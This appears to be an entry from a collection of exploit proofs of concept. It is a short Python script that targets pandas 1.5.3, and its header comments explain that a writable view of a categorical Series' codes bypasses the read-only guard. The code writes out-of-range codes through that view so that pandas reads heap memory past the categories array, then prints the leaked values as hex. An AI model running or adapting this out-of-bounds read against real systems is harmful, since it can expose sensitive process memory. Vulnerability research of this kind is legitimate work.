# source: pandas 1.5.3 pandas/core/arrays/_mixins.py NDArrayBackedExtensionArray.view (inherited by Categorical) returns self._ndarray.view(dtype): a writable view of the codes that Categorical.codes hands out read-only; take_nd (pandas/_libs/algos_take_helper) then indexes the categories with them unchecked
# family: Series.view(dtype) of a categorical Series is a new Series over the writable codes view; .iloc[] = writes the codes
# goal: read heap memory beyond the categories array through the categorical Series
import numpy as np
import pandas as pd

s = pd.Series([1, 2, 3], dtype="category")
codes = s.view("int8")
codes.iloc[0] = 100
codes.iloc[1] = -20
print(s.to_numpy())
print([hex(int(v)) for v in s.to_numpy()])
